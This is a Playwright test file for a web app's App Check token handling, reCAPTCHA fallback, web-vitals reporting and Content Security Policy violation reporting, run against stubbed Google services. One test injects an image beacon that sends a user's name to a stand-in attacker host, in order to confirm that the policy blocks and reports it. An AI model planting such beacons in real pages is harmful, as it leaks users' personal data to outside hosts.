import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { Page, Request, Route } from '@playwright/test';
import { execute } from '../support/prepared';
import { unsignedToken } from '../support/tokens';
import { button, copy, expect, fill, paths, test } from './fixtures';

// The emulators know no App Check, and the local site has no collector. So the site is built as for a
// real project, and the other side is played here: what counts is what the site sends, under the
// policy that its pages carry.
const SITE = 'https://lively.example';
const COLLECTOR = 'https://collector.example/in';
const FOLDER = 'test-results/real-project';
const PROJECT = 'demo-lively';
const HEADER = 'x-firebase-appcheck';
const TOKEN = 'a-token-of-app-check';

const RECAPTCHA = `window.grecaptcha = { enterprise: {
  ready: (then) => then(),
  render: (_, { callback }) => { callback(); return 0; },
  execute: async () => 'a person',
} };`;

const GOOGLE: Readonly<Record<string, () => object>> = {
  'accounts:signInWithPassword': () => ({
    ...{ localId: 'jane', email: 'jane@example.com', idToken: unsignedToken(PROJECT, 'jane') },
    ...{ refreshToken: 'r', expiresIn: '3600' },
  }),
  'accounts:lookup': () => ({ users: [{ localId: 'jane', email: 'jane@example.com' }] }),
  'documents:batchGet': () => [
    {
      missing: `projects/${PROJECT}/databases/(default)/documents/users/jane`,
      readTime: new Date().toISOString(),
    },
  ],
  completeSignUp: () => ({ result: { uid: 'jane', username: 'jane' } }),
  ':exchangeRecaptchaEnterpriseToken': () => ({ token: TOKEN, ttl: '3600s' }),
};
/** The exchange itself is what makes a token. */
const WITH_TOKEN = ['accounts:signInWithPassword', 'documents:batchGet', 'completeSignUp'];

// One build for all.
test.describe.configure({ mode: 'default' });
test.use({ expectedConsole: /ERR_FAILED/ });

test.beforeAll(async () => {
  const env = {
    ...process.env,
    VITE_FIREBASE_PROJECT_ID: PROJECT,
    VITE_FIREBASE_API_KEY: 'key',
    VITE_FIREBASE_APP_ID: 'app',
    VITE_FIREBASE_STORAGE_BUCKET: 'bucket',
    VITE_APP_CHECK_SITE_KEY: 'site-key',
    VITE_REPORT_URL: COLLECTOR,
  };
  expect(await execute(['tsx', 'site-build/build.ts', '--outDir', FOLDER], env)).toBe(true);
});

test('with a site key, every call carries the token', async ({ page }) => {
  const sent = await play(page, { recaptcha: (route) => route.fulfill({ body: RECAPTCHA }) });
  expect(WITH_TOKEN.map((call) => sent.get(call))).toEqual(WITH_TOKEN.map(() => TOKEN));
});

test('where reCAPTCHA is blocked, calls go without, and nobody waits for ever', async ({
  page,
}) => {
  const sent = await play(page, { recaptcha: (route) => route.abort() });
  expect(WITH_TOKEN.map((call) => sent.get(call))).toEqual(WITH_TOKEN.map(() => undefined));
});

test('where what reCAPTCHA loads is blocked, too', async ({ page }) => {
  const neverReady = 'window.grecaptcha = { enterprise: { ready() {} } };';
  const sent = await play(page, { recaptcha: (route) => route.fulfill({ body: neverReady }) });
  expect(WITH_TOKEN.map((call) => sent.get(call))).toEqual(WITH_TOKEN.map(() => undefined));
});

test('a collector hears how fast a public page was, and nothing of the account comes for it', async ({
  page,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await page.route(`${SITE}/**`, serve);
  const reports = await collect(page);
  await page.goto(`${SITE}${paths.premium}`, { waitUntil: 'networkidle' });
  expect(asked.filter((path) => /account|auth|firebase|react/i.test(path))).toEqual([]);
  // The largest paint is known once a person does something.
  await page.keyboard.press('Shift');
  await expect
    .poll(() => reports)
    .toContainEqual({
      kind: 'vital',
      what: 'LCP',
      value: expect.any(Number),
      page: paths.premium,
    });
});

test.describe('what the policy forbids', () => {
  test.use({ expectedConsole: /Content Security Policy/ });

  test('is told to the collector, without its address', async ({ page }) => {
    await page.route(`${SITE}/**`, serve);
    const reports = await collect(page);
    await page.goto(`${SITE}${paths.premium}`, { waitUntil: 'networkidle' });
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/?name=jane';
    });
    await expect
      .poll(() => reports)
      .toContainEqual({
        ...{ kind: 'violation', what: 'img-src', code: 'https://evil.example' },
        page: paths.premium,
      });
  });
});

/** Logs in and claims a name; gives back the token that each kind of call carried. */
async function play(page: Page, google: { recaptcha: (route: Route) => Promise<void> }) {
  const sent = new Map<string, string | undefined>();
  await page.route(/googleapis\.com|cloudfunctions\.net/, (route) => answer(route, sent));
  await page.route('https://www.google.com/recaptcha/**', google.recaptcha);
  await page.route(`${SITE}/**`, serve);
  await collect(page);

  await page.goto(`${SITE}${paths.logIn}`);
  await fill(page, { email: 'jane@example.com', password: 'sailing1' });
  await button(page, copy.logIn.submit).click();
  await page.waitForURL(`**${paths.username}`);
  await fill(page, { name: 'Jane', username: 'jane' });
  await button(page, copy.username.submit).click();
  await expect.poll(() => sent.has('completeSignUp')).toBe(true);
  return sent;
}

async function answer(route: Route, sent: Map<string, string | undefined>): Promise<void> {
  const request = route.request();
  const [kind, body] = Object.entries(GOOGLE).find(([call]) => request.url().includes(call)) ?? [];
  if (!kind || !body) return route.abort();
  if (request.method() !== 'OPTIONS') sent.set(kind, request.headers()[HEADER]);
  await route.fulfill({ json: body(), headers: corsFor(request) });
}

const corsFor = (request: Request) => ({
  'access-control-allow-origin': SITE,
  'access-control-allow-headers': request.headers()['access-control-request-headers'] ?? '*',
});

/** What arrives at the collector from now on. */
async function collect(page: Page): Promise<unknown[]> {
  const reports: unknown[] = [];
  await page.route(COLLECTOR, async (route) => {
    reports.push(route.request().postDataJSON());
    await route.fulfill();
  });
  return reports;
}

/** The site as Hosting serves it: pages without their ending. */
async function serve(route: Route): Promise<void> {
  const file = join(FOLDER, new URL(route.request().url()).pathname);
  await route.fulfill({ path: existsSync(file) ? file : `${file}.html` });
}
